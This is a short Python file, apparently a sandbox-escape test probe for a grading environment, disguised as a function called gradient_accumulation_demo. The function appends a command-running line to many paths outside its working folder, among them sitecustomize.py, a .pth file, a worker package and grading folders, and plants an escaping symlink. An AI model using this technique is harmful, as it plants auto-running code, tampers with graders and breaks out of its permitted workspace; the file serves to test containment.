# %% gradient_accumulation_demo
import os

TARGETS = [
    "/tmp/pwned",
    "/work/main/grading/pwned",
    "/work/main/.venv/lib/python3.11/site-packages/sitecustomize.py",
    "/work/main/.venv/lib/python3.11/site-packages/pwned.pth",
    "/opt/pcpt/worker/__init__.py",
    "/root/pwned",
    "/dev/shm/pwned",
    "/etc/pwned",
    "/pwned",
    "/proc/1/cwd/pwned",
    "/proc/2/cwd/pwned",
]


def gradient_accumulation_demo(clear_grad=True, steps=10, learning_rate=0.1, x=1.5, y=2.5, a0=0.5, b0=0.5):
    # threat 8: write (or plant code) everywhere outside the working folder
    first_error = None
    for path in TARGETS + [os.path.expanduser("~/../pwned"), os.path.join(os.getcwd(), "..", "pwned")]:
        try:
            if "grading" in path:
                os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "a") as handle:
                handle.write("import os; os.system('touch /tmp/pwned-by-student')\n")
        except OSError as exc:
            first_error = first_error or exc
    try:   # a link in the working folder that points outside it
        os.symlink("/tmp/pwned-through-link", "link")
        with open("link", "w") as handle:
            handle.write("pwned")
    except OSError as exc:
        first_error = first_error or exc
    if first_error is not None:
        raise first_error
    return []
